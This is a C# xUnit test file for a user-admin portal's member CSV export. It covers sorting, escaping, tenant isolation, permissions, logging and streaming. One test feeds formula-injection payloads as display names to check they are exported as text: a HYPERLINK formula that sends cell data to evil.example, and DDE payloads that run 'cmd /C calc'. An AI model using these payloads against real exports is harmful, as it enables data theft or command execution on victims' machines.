using System.Globalization;
using Microsoft.Data.Sqlite;
using Microsoft.EntityFrameworkCore;
using UserAdmin.Portal.Data;
using UserAdmin.Portal.Features.Shared;
using UserAdmin.Portal.Features.Users;
using UserAdmin.Portal.Features.Users.Export;
using UserAdmin.Portal.Tests.Infrastructure;

namespace UserAdmin.Portal.Tests.Features.Users.Export;

public sealed class MemberCsvExportTests(PortalServices portal) : IClassFixture<PortalServices>, IDisposable
{
    private static readonly string[] MixedCaseNames = ["beta", "Alpha"];

    private readonly CapturingLoggerProvider _logs = new();
    private ILoggerFactory? _loggerFactory;

    private TestDatabase Database => portal.Database;

    private MemberCsvExport Export => new(
        portal.Get<MemberQueryService>(), portal.Get<IDbContextFactory<PortalDbContext>>(), TimeProvider.System,
        (_loggerFactory ??= LoggerFactory.Create(b => b.AddProvider(_logs))).CreateLogger<MemberCsvExport>());

    public void Dispose() => _loggerFactory?.Dispose();

    private async Task<List<string[]>> ExportAsync(Actor actor, MemberFilter? filter = null, MemberSort? sort = null)
    {
        var download = await Export.PrepareAsync(actor, filter ?? MemberFilter.None, sort ?? new MemberSort());
        Assert.True(download.Succeeded, download.Message);
        using var output = new MemoryStream();
        await Export.WriteAsync(download.Value!, output);
        var rows = Csv.Parse(output.ToArray());
        Assert.Equal(MemberCsvExport.Columns, rows[0]);
        return rows;
    }

    private async Task<(TestOrganization Organization, TestMember Admin)> NewOrganizationAsync()
    {
        var organization = await Database.AddOrganizationAsync();
        var admin = await Database.AddMemberAsync(organization.Id, MemberRank.Admin, configure: a => a.DisplayName = "Admin Person");
        return (organization, admin);
    }

    [Theory]
    [InlineData(MemberSortField.DisplayName, false)]
    [InlineData(MemberSortField.UserName, true)]
    [InlineData(MemberSortField.CreatedAt, true)]
    [InlineData(MemberSortField.Status, false)]
    [InlineData(MemberSortField.LastSignInAt, false)]
    public async Task TheFileHasAHeaderAndOneLinePerMemberInTheGridsSortOrder(MemberSortField field, bool descending)
    {
        var (organization, admin) = await NewOrganizationAsync();
        string[] names = ["charlie Brown", "Alice Ames", "bob Brook", "Dave Dunn", "Émile Eng"];
        for (var i = 0; i < names.Length; i++)
        {
            var n = i;
            await Database.AddMemberAsync(organization.Id, suspended: n == 3, configure: a =>
            {
                a.DisplayName = names[n];
                a.CreatedAt = new DateTime(2024, 1, 1, 0, 0, 0, DateTimeKind.Utc).AddDays((n * 7) % 5);
                a.LastSignInAt = n % 2 == 0 ? a.CreatedAt.AddHours(n) : null;
                a.IsActivated = n != 1;
            });
        }

        var sort = new MemberSort(field, descending);
        var rows = await ExportAsync(admin.Actor, sort: sort);

        var grid = await portal.Get<MemberQueryService>().PageAsync(admin.Actor, MemberFilter.None, sort, new PageRequest(Size: 100));
        Assert.Equal(6, rows.Count - 1);
        Assert.Equal(grid.Value!.Rows.Select(r => r.UserName), rows.Skip(1).Select(r => r[1]));
    }

    [Fact]
    public async Task EachColumnReadsAsTheGridShowsIt()
    {
        var (organization, admin) = await NewOrganizationAsync();
        var member = await Database.AddMemberAsync(organization.Id, MemberRank.Admin, configure: a =>
        {
            a.DisplayName = "Ada Lovelace";
            a.EmailConfirmed = false;
            a.MustChangePassword = true;
            a.CreatedAt = new DateTime(2024, 3, 5, 6, 7, 8, DateTimeKind.Utc);
            a.LastSignInAt = new DateTime(2025, 12, 31, 23, 59, 1, DateTimeKind.Utc);
        });
        await Database.ExecuteAsync(async db =>
        {
            await db.Memberships.Where(m => m.Id == member.MembershipId).ExecuteUpdateAsync(s => s.SetProperty(m => m.Tag, MemberTag.Guest));
            foreach (var name in MixedCaseNames)
            {
                var group = new Group { Id = Guid.NewGuid(), OrganizationId = organization.Id, Name = name, CreatedAt = DateTime.UtcNow };
                db.Groups.Add(group);
                db.GroupMembers.Add(new GroupMember { GroupId = group.Id, MembershipId = member.MembershipId, AddedAt = DateTime.UtcNow });
            }
        });

        var rows = await ExportAsync(admin.Actor, sort: new MemberSort(MemberSortField.UserName));

        var line = Assert.Single(rows, r => r[1] == member.UserName);
        Assert.Equal(
            ["Ada Lovelace", member.UserName, $"{member.UserName}@portal.test", "no", "ADMIN", "Guest", "Active", "yes", "Alpha, beta", "2024-03-05T06:07:08Z", "2025-12-31T23:59:01Z"],
            line);
        var adminLine = Assert.Single(rows, r => r[1] == admin.UserName);
        Assert.Equal(("yes", "User", "no", ""), (adminLine[3], adminLine[5], adminLine[7], adminLine[10]));
    }

    [Fact]
    public async Task AMemberWithoutEmailHasAnEmptyCellAndSortsFirstByEmailAscendingAndLastDescending()
    {
        var (organization, admin) = await NewOrganizationAsync();
        var kiosk = await Database.AddMemberAsync(organization.Id, configure: a =>
        {
            a.Email = null;
            a.NormalizedEmail = null;
            a.EmailConfirmed = false;
        });
        var lab = await Database.AddMemberAsync(organization.Id, configure: a =>
        {
            a.Email = null;
            a.NormalizedEmail = null;
            a.EmailConfirmed = false;
        });

        var ascending = await ExportAsync(admin.Actor, sort: new MemberSort(MemberSortField.Email));
        var descending = await ExportAsync(admin.Actor, sort: new MemberSort(MemberSortField.Email, Descending: true));

        var withoutEmail = new[] { kiosk.UserName, lab.UserName }.Order(StringComparer.Ordinal).ToList();
        Assert.Equal(withoutEmail, ascending.Skip(1).Take(2).Select(r => r[1]).Order(StringComparer.Ordinal));
        Assert.Equal(withoutEmail, descending.Skip(2).Select(r => r[1]).Order(StringComparer.Ordinal));
        Assert.All(ascending.Skip(1).Take(2), r => Assert.Equal(("", "no"), (r[2], r[3])));
        Assert.Equal(admin.UserName, ascending[^1][1]);
    }

    [Fact]
    public async Task CommasQuotesAndLineBreaksInNamesComeBackIntact()
    {
        var (organization, admin) = await NewOrganizationAsync();
        const string awkward = "Smith, \"Jo\"\r\nsecond line\nthird, too";
        var member = await Database.AddMemberAsync(organization.Id, configure: a => a.DisplayName = awkward);

        var rows = await ExportAsync(admin.Actor);

        Assert.Equal(3, rows.Count);
        Assert.Equal(awkward, Assert.Single(rows, r => r[1] == member.UserName)[0]);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    public async Task ANameThatStartsLikeAFormulaIsExportedAsText(string name)
    {
        var (organization, admin) = await NewOrganizationAsync();
        var member = await Database.AddMemberAsync(organization.Id, configure: a => a.DisplayName = name);

        var rows = await ExportAsync(admin.Actor);

        Assert.Equal("'" + name, Assert.Single(rows, r => r[1] == member.UserName)[0]);
    }

    [Fact]
    public async Task UnicodeNamesSurvive()
    {
        var (organization, admin) = await NewOrganizationAsync();
        const string name = "Zoë Łukasz-Søren 王伟 🎉";
        var member = await Database.AddMemberAsync(organization.Id, configure: a => a.DisplayName = name);

        var rows = await ExportAsync(admin.Actor);

        Assert.Equal(name, Assert.Single(rows, r => r[1] == member.UserName)[0]);
    }

    [Fact]
    public async Task AnotherOrganizationsMembersNeverAppear()
    {
        var (organization, admin) = await NewOrganizationAsync();
        var mine = await Database.AddMemberAsync(organization.Id);
        var other = await Database.AddOrganizationAsync();
        var theirs = await Database.AddMemberAsync(other.Id, configure: a => a.DisplayName = "Their Member");
        // The admin belongs to the other organization too: its members still stay out of this one's file.
        await Database.AddMembershipAsync(other.Id, admin.AccountId, MemberRank.Admin);

        var rows = await ExportAsync(admin.Actor);

        Assert.Equal([admin.UserName, mine.UserName], rows.Skip(1).Select(r => r[1]).Order());
        Assert.DoesNotContain(rows, r => r.Contains(theirs.UserName) || r.Contains("Their Member"));
    }

    [Fact]
    public async Task TheGridsQueryStringFiltersAndSortsTheExport()
    {
        var (organization, admin) = await NewOrganizationAsync();
        var suspended = new List<TestMember>();
        for (var i = 0; i < 3; i++)
        {
            await Database.AddMemberAsync(organization.Id);
            suspended.Add(await Database.AddMemberAsync(organization.Id, suspended: true));
        }

        var state = MemberGridState.FromQuery("?status=Suspended&sort=UserName&dir=desc&page=Last&size=25");
        var rows = await ExportAsync(admin.Actor, state.Filter, state.Sort);

        Assert.Equal(suspended.Select(m => m.UserName).OrderDescending(StringComparer.OrdinalIgnoreCase), rows.Skip(1).Select(r => r[1]));
        Assert.All(rows.Skip(1), r => Assert.Equal("Suspended", r[6]));
    }

    [Fact]
    public async Task AMemberWithoutViewUsersMayNotExport()
    {
        var (organization, _) = await NewOrganizationAsync();
        var regular = await Database.AddMemberAsync(organization.Id);
        var viewer = await Database.AddMemberAsync(organization.Id, permissions: [PortalPermissions.ViewUsers]);
        var suspendedAdmin = await Database.AddMemberAsync(organization.Id, MemberRank.Admin, suspended: true);
        var outsider = await Database.AddMemberAsync((await Database.AddOrganizationAsync()).Id, MemberRank.Super);

        var refused = await Export.PrepareAsync(regular.Actor, MemberFilter.None, new MemberSort());
        var allowed = await Export.PrepareAsync(viewer.Actor, MemberFilter.None, new MemberSort());
        var suspendedRefused = await Export.PrepareAsync(suspendedAdmin.Actor, MemberFilter.None, new MemberSort());
        var outsiderRefused = await Export.PrepareAsync(outsider.Actor with { OrganizationId = organization.Id }, MemberFilter.None, new MemberSort());

        Assert.Equal(OperationStatus.Forbidden, refused.Status);
        Assert.Contains(PortalPermissions.ViewUsers, refused.Message, StringComparison.Ordinal);
        Assert.Null(refused.Value);
        Assert.True(allowed.Succeeded, allowed.Message);
        Assert.Equal(OperationStatus.Forbidden, suspendedRefused.Status);
        Assert.Equal(OperationStatus.Forbidden, outsiderRefused.Status);
    }

    [Fact]
    public async Task TheFileIsNamedAfterTheOrganizationAndTheTimeInUtc()
    {
        var (organization, admin) = await NewOrganizationAsync();
        var before = DateTime.UtcNow;

        var download = await Export.PrepareAsync(admin.Actor, MemberFilter.None, new MemberSort());

        var name = download.Value!.FileName;
        Assert.StartsWith($"members-{organization.Name}-", name, StringComparison.Ordinal);
        var stamp = DateTime.ParseExact(name[^17..^4], "yyyyMMdd-HHmm", CultureInfo.InvariantCulture, DateTimeStyles.AssumeUniversal | DateTimeStyles.AdjustToUniversal);
        Assert.InRange(stamp, before.AddMinutes(-1), DateTime.UtcNow);
        Assert.Equal("members-acme-co-20260102-0304.csv", MemberCsvExport.FileNameFor("acme co", new DateTimeOffset(2026, 1, 2, 5, 4, 0, TimeSpan.FromHours(2))));
    }

    [Fact]
    public async Task AnExportLogsOneLineWithCountsAndNoMemberData()
    {
        var (organization, admin) = await NewOrganizationAsync();
        var member = await Database.AddMemberAsync(organization.Id, configure: a => a.DisplayName = "Secret Name");

        await ExportAsync(admin.Actor);

        var entry = Assert.Single(_logs.Entries, e => e.Category == typeof(MemberCsvExport).FullName);
        Assert.Equal(LogLevel.Information, entry.Level);
        Assert.Contains("Exported 2 members", entry.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(member.UserName, entry.AllText, StringComparison.Ordinal);
        Assert.DoesNotContain("Secret Name", entry.AllText, StringComparison.Ordinal);
        Assert.Empty(await Database.ActivityForAsync(organization.Id));
    }

    [Fact]
    public async Task RowsAreWrittenAsTheyAreReadNotCollectedFirst()
    {
        const int members = 20_000;
        var (organization, admin) = await NewOrganizationAsync();
        await AddManyMembersAsync(Database, organization.Id, members);
        var read = 0;
        async IAsyncEnumerable<MemberRow> Counted(IAsyncEnumerable<MemberRow> rows)
        {
            await foreach (var row in rows)
            {
                read++;
                yield return row;
            }
        }

        using var output = new RecordingStream(() => read);
        var source = Counted(portal.Get<MemberQueryService>().StreamAsync(organization.Id, MemberFilter.None, new MemberSort()));
        var written = await MemberCsvExport.WriteCsvAsync(source, new CsvWriter(output), default);

        Assert.Equal(members + 1, written);
        var total = output.Writes.Sum(w => w.Bytes);
        Assert.True(total > 1_000_000, $"{total} bytes");

        // The header leaves before any row is read; the first rows leave after a few hundred, not after 20,000.
        Assert.Equal(0, output.Writes[0].RowsRead);
        Assert.InRange(output.Writes.First(w => w.RowsRead > 0).RowsRead, 1, 1_000);

        // Half the rows read means about half the file sent; no write is larger than a chunk; flushes along the way.
        var sentAtHalf = output.Writes.Where(w => w.RowsRead <= members / 2).Sum(w => w.Bytes);
        Assert.InRange(sentAtHalf, total * 4 / 10, total * 6 / 10);
        Assert.All(output.Writes, w => Assert.InRange(w.Bytes, 1, 64 * 1024));
        Assert.True(output.Flushes >= members / MemberCsvExport.FlushEveryRows, $"{output.Flushes} flushes");
        Assert.Equal(members + 2, Csv.Parse(output.ToArray()).Count);
    }

    [Fact]
    public async Task ACancelledRequestStopsTheExportQuietly()
    {
        var (organization, admin) = await NewOrganizationAsync();
        await AddManyMembersAsync(Database, organization.Id, 1_500);
        using var cancel = new CancellationTokenSource();
        using var output = new RecordingStream(() => 0, afterWrites: 3, cancel);
        var download = await Export.PrepareAsync(admin.Actor, MemberFilter.None, new MemberSort());

        var written = await Export.WriteAsync(download.Value!, output, cancel.Token);

        Assert.Equal(-1, written);
        Assert.InRange(output.Writes.Count, 3, 4);
        var entry = Assert.Single(_logs.Entries, e => e.Category == typeof(MemberCsvExport).FullName);
        Assert.Contains("cancelled", entry.Message, StringComparison.Ordinal);
        Assert.Null(entry.Exception);
    }

    /// <summary>Bulk rows straight into the tables (the directory triggers fire as for any write): 20k in about a second.</summary>
    private static async Task AddManyMembersAsync(TestDatabase database, Guid organizationId, int count)
    {
        await using var connection = new SqliteConnection(database.ConnectionString);
        await connection.OpenAsync();
        await using var transaction = (SqliteTransaction)await connection.BeginTransactionAsync();
        await using var command = connection.CreateCommand();
        command.Transaction = transaction;
        command.CommandText = """
            INSERT INTO AspNetUsers (Id, FirstName, LastName, DisplayName, MustChangePassword, IsActivated, CreatedAt, DeviceStatus, UserName, NormalizedUserName, Email, NormalizedEmail, EmailConfirmed, SecurityStamp, PhoneNumberConfirmed, TwoFactorEnabled, LockoutEnabled, AccessFailedCount)
            VALUES ($id, 'Many', $last, $display, 0, 1, '2024-01-01 00:00:00', 0, $user, upper($user), $user || '@portal.test', upper($user || '@portal.test'), 1, 'x', 0, 0, 1, 0);
            INSERT INTO Memberships (OrganizationId, AccountId, Rank, Tag, IsSuspended, JoinedAt, Version) VALUES ($org, $id, 0, 0, 0, '2024-01-01 00:00:00', 'v');
            """;
        var id = command.Parameters.Add("$id", SqliteType.Text);
        var last = command.Parameters.Add("$last", SqliteType.Text);
        var display = command.Parameters.Add("$display", SqliteType.Text);
        var user = command.Parameters.Add("$user", SqliteType.Text);
        command.Parameters.AddWithValue("$org", organizationId.ToString().ToUpperInvariant());
        var prefix = Guid.NewGuid().ToString("N")[..8];
        for (var i = 0; i < count; i++)
        {
            id.Value = Guid.NewGuid().ToString().ToUpperInvariant();
            last.Value = $"Zoë-{i:D5}";
            display.Value = $"Many Zoë-{i:D5}, \"member\"";
            user.Value = $"many-{prefix}-{i:D5}";
            await command.ExecuteNonQueryAsync();
        }

        await transaction.CommitAsync();
    }

    /// <summary>
    /// Keeps what was written, and for each write how many rows had been read by then. Refuses synchronous writes,
    /// as Kestrel does on a response body.
    /// </summary>
    private sealed class RecordingStream(Func<int> rowsRead, int afterWrites = int.MaxValue, CancellationTokenSource? cancel = null) : Stream
    {
        private readonly MemoryStream _content = new();

        public List<(int Bytes, int RowsRead)> Writes { get; } = [];
        public int Flushes { get; private set; }

        public override bool CanRead => false;
        public override bool CanSeek => false;
        public override bool CanWrite => true;
        public override long Length => throw new NotSupportedException();
        public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }

        public byte[] ToArray() => _content.ToArray();

        public override async ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default)
        {
            Writes.Add((buffer.Length, rowsRead()));
            if (Writes.Count == afterWrites)
            {
                cancel?.Cancel();
            }

            await Task.Yield();
            cancellationToken.ThrowIfCancellationRequested();
            _content.Write(buffer.Span);
        }

        public override Task FlushAsync(CancellationToken cancellationToken)
        {
            Flushes++;
            return Task.CompletedTask;
        }

        public override void Write(byte[] buffer, int offset, int count) => throw new InvalidOperationException("Synchronous write.");
        public override void Flush() => throw new InvalidOperationException("Synchronous flush.");
        public override int Read(byte[] buffer, int offset, int count) => throw new NotSupportedException();
        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();

        protected override void Dispose(bool disposing)
        {
            _content.Dispose();
            base.Dispose(disposing);
        }
    }
}
